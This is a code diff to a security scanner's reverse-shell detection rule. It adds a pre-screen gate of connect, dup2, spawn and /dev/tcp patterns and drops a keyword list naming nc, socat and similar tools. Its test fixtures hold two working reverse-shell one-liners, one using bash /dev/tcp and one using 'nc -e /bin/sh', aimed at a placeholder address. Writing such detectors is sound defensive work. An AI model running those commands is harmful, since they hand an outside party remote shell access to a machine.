@@ -11,6 +11,7 @@ from datasec_scan.model import Category, Confidence, Severity
 from datasec_scan.rule import Rule
 from datasec_scan.semantics.constants import fold
 
+from . import _prescreen as ps
 from ._remote import (
     REVERSE_SHELL_COMMANDS,
     SOCKET,
@@ -27,6 +28,20 @@ from ._remote import (
 CONNECT_CALLS = ("socket.socket().connect", "socket.socket().connect_ex", "socket.create_connection",
                  "asyncio.open_connection", "telnetlib.Telnet", "telnetlib.Telnet().open", "ssl.wrap_socket().connect",
                  "*.wrap_socket().connect", "websocket.create_connection", "socket.socket().*connect")
+
+# Pre-screen (necessary for any report, see rules/_prescreen.py): a spawner (a one-liner handed to it, or a spawn
+# wired to a connection), or an outbound connection with os.dup2 or `.stdin.write` (the other wirings); or what the
+# reduced scan (`fallback.reverse_shell`) needs: socket text, then a dup2/spawn call or a one-liner in a string
+# (escapes and implicit concatenation can hide one in the source text, so any backslash or string juxtaposition).
+_APPLIES = ps.any_of(
+    ps.SPAWN,
+    ps.all_of(ps.any_of(ps.Names(CONNECT_CALLS), ps.word("connect", "connect_ex")),
+              ps.any_of(ps.DUP2, ps.STDIN_WRITE)),
+    # the reduced scan's own gate (`fallback._SOCKET_TEXT`, its words looked up in the word set)
+    ps.all_of(ps.any_of(ps.word("socket", "create_connection"), ps.regex("/dev/(?:tcp|udp)/")),
+              ps.any_of(ps.word("dup2", "spawn"), lambda v: v.search(fallback._REVSHELL_TEXT),
+                        ps.regex(r"\\|[\"'](?:\s|#[^\n]*)*[rRbBuUfF]{0,2}[\"']"))),
+)
 
 
 @dataclass
@@ -123,9 +138,6 @@ class ReverseShell(FunctionScopes, Rule):
     confidence = Confidence.HIGH
     cwe = (506, 78)
     attack = ("T1059", "T1071")
-    triggers = ("socket", "/dev/tcp", "/dev/udp", "nc ", "ncat", "netcat", "mkfifo", "socat", "open_connection",
-                "telnet", "wrap_socket", "pty", "dup2", "TCPClient", "fsockopen", "__import__", "getattr",
-                "import_module", "\\x", "exec", "subprocess", "system", "popen", "spawn", "Popen")
     VALID = (
         "import subprocess\nsubprocess.run(['git', 'status'])\n",
         "import pty\npty.spawn('/bin/bash')\n",
@@ -137,6 +149,11 @@ class ReverseShell(FunctionScopes, Rule):
         "import os\nos.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')\n",
         "import subprocess\nsubprocess.Popen(['nc', '-e', '/bin/sh', '203.0.113.7', '4444'])\n",
     )
+
+    @classmethod
+    def triggered_by(cls, text: str) -> bool:
+        """A spawner, or a connection with dup2/stdin wiring, or what the reduced scan needs."""
+        return ps.memo(cls.code, text, _APPLIES)
 
     @classmethod
     def fallback(cls, tree, text, context):  # type: ignore[override]
